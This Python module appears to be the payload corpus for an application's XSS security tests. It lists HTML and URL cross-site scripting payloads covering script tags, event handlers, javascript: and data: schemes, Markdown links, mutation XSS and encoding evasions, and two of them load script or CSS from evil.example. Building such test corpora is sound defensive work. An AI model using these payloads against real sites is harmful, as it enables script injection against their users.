"""The XSS corpus of tests/security/test_xss.py.

Each payload is a template with ``{m}`` (replaced, not formatted): the test replaces it with a marker unique to the field the
payload is sent through (``zx07u012z``: payload 7, use 12), so a page shows where each value landed
and the test can prove the value was shown back (escaped) rather than dropped.

``HTML`` payloads go into text fields (names, titles, bodies, Markdown); ``URL`` payloads go into the
fields that take a web address (websites, online links, terms of reference, evidence links, document
links) and, like the others, into the Markdown fields. No payload holds a line break or a NUL, so
that every one of them fits a one-line field.
"""
from __future__ import annotations

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
B64_SVG = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>

HTML = [
    # Script elements: plain, upper and mixed case, with a source, split, nested, closing a script context.
    "<script>alert('{m}')</script>",
    '<SCRIPT>alert("{m}")</SCRIPT>',
    "<ScRiPt src=//evil.example/{m}.js></sCrIpT>",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    '<script type="text/javascript">javascript:alert(\'{m}\');</script>',
    "</script><script>alert('{m}')</script>",
    "<script\t>alert('{m}')</script\t>",
    # Event handlers on images and SVG.
    "<img src=x onerror=alert('{m}')>",
    "<IMG SRC=\"javascript:alert('{m}');\">",
    "<img \"\"\"><script>alert('{m}')</script>\">",
    "<svg onload=alert('{m}')>",
    "<svg/onload=alert('{m}')//",
    "<svg><script>alert('{m}')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('{m}')\"><text x=\"20\" y=\"20\">{m}</text></a></svg>",
    "<svg><animate onbegin=alert('{m}') attributeName=x dur=1s>",
    "<svg><set attributeName=\"href\" to=\"javascript:alert('{m}')\"/></svg>",
    "<math><maction actiontype=\"statusline#\" xlink:href=\"javascript:alert('{m}')\">{m}</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    # Links with scripting schemes, hidden by case, whitespace and character references.
    "<a href=\"javascript:alert('{m}')\">{m}</a>",
    "<a href=\"JaVaScRiPt:alert('{m}')\">{m}</a>",
    "<a href=\" &#14; javascript:alert('{m}')\">{m}</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('{m}')\">{m}</a>",
    "<a href=\"java&#x09;script:alert('{m}')\">{m}</a>",
    "<a href=\"vbscript:msgbox('{m}')\">{m}</a>",
    "<a href=\"data:text/html;base64," + B64_SCRIPT + "\">{m}</a>",
    "<a href=\"https://example.org\" onclick=\"alert('{m}')\">{m}</a>",
    # Markdown links, images and autolinks with scripting schemes.
    "[{m}](javascript:alert(1))",
    "[{m}](JAVASCRIPT:alert(1))",
    "[{m}](  javascript:alert(1) \"title\")",
    "[{m}](&#106;avascript:alert(1))",
    "[{m}](java%73cript:alert(1))",
    "[{m}](vbscript:msgbox(1))",
    "[{m}](data:text/html;base64," + B64_SCRIPT + ")",
    "[{m}](https://example.org/\"onmouseover=\"alert(1))",
    "![{m}](javascript:alert(1))",
    "<javascript:alert('{m}')>",
    "<https://example.org/{m}\" onmouseover=\"alert(1)>",
    # Breaking out of attributes and of elements that hold text.
    "\"><script>alert('{m}')</script>",
    "'><script>alert('{m}')</script>",
    "\" onmouseover=\"alert('{m}')\" x=\"",
    "' onfocus='alert(\"{m}\")' autofocus '",
    "\"autofocus onfocus=alert('{m}')//",
    "</textarea><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "</option></select><img src=x onerror=alert('{m}')>",
    # Frames, plugins, styles.
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert('{m}')&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert('{m}')\"></object>",
    "<embed src=\"data:image/svg+xml;base64," + B64_SVG + "\" title=\"{m}\">",
    "<style>@import 'https://evil.example/{m}.css';</style>",
    "<div style=\"background:url(javascript:alert('{m}'))\">{m}</div>",
    "<p style=\"x:expression(alert('{m}'))\">{m}</p>",
    "<link rel=stylesheet href=\"javascript:alert('{m}')\">",
    # Mutation XSS and parser differentials.
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    "<template><img src=x onerror=alert('{m}')></template>",
    "<!--<img src=\"--><img src=x onerror=alert('{m}')//\">",
    "<!-- {m} --><script>alert(1)</script>",
    "<![CDATA[<script>alert('{m}')</script>]]>",
    # Document-level elements.
    "<base href=\"javascript:alert('{m}')//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{m}')\">",
    "<form action=\"javascript:alert('{m}')\"><button>{m}</button></form>",
    "<button formaction=\"javascript:alert('{m}')\">{m}</button>",
    "<input onfocus=alert('{m}') autofocus>",
    "<details open ontoggle=alert('{m}')>",
    "<body onload=alert('{m}')>",
    "<video><source onerror=\"alert('{m}')\"></video>",
    "<marquee onstart=alert('{m}')>{m}</marquee>",
    "<isindex type=image src=1 onerror=alert('{m}')>",
    # Encodings and unicode tricks.
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "%3Cscript%3Ealert('{m}')%3C/script%3E",
    "\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert('{m}')\uff1c/script\uff1e",
    "\u202e<script>alert('{m}')</script>",
    "<scr\u200bipt>alert('{m}')</scr\u200bipt>",
    "\u00bcscript\u00bealert('{m}')\u00bc/script\u00be",
    "{{7*7}}{m}{% raw %}<script>alert(1)</script>",
]

URL = [
    "javascript:alert('{m}')",
    "JaVaScRiPt:alert('{m}')",
    " javascript:alert('{m}')",
    "java\tscript:alert('{m}')",
    "&#106;avascript:alert('{m}')",
    "vbscript:msgbox('{m}')",
    "data:text/html,<script>alert('{m}')</script>",
    "data:text/html;base64," + B64_SCRIPT + "#{m}",
    "https://example.org/{m}\"><script>alert(1)</script>",
    "https://example.org/{m}'onmouseover='alert(1)",
    "https://example.org/{m}?a=\"onfocus=\"alert(1)\"autofocus=\"",
    "http://{m}.example.org/<svg/onload=alert(1)>",
    "https://example.org/#{m}<img/src=x/onerror=alert(1)>",
]

PAYLOADS = HTML + URL
URL_START = len(HTML)


def is_url_payload(index: int) -> bool:
    return index >= URL_START
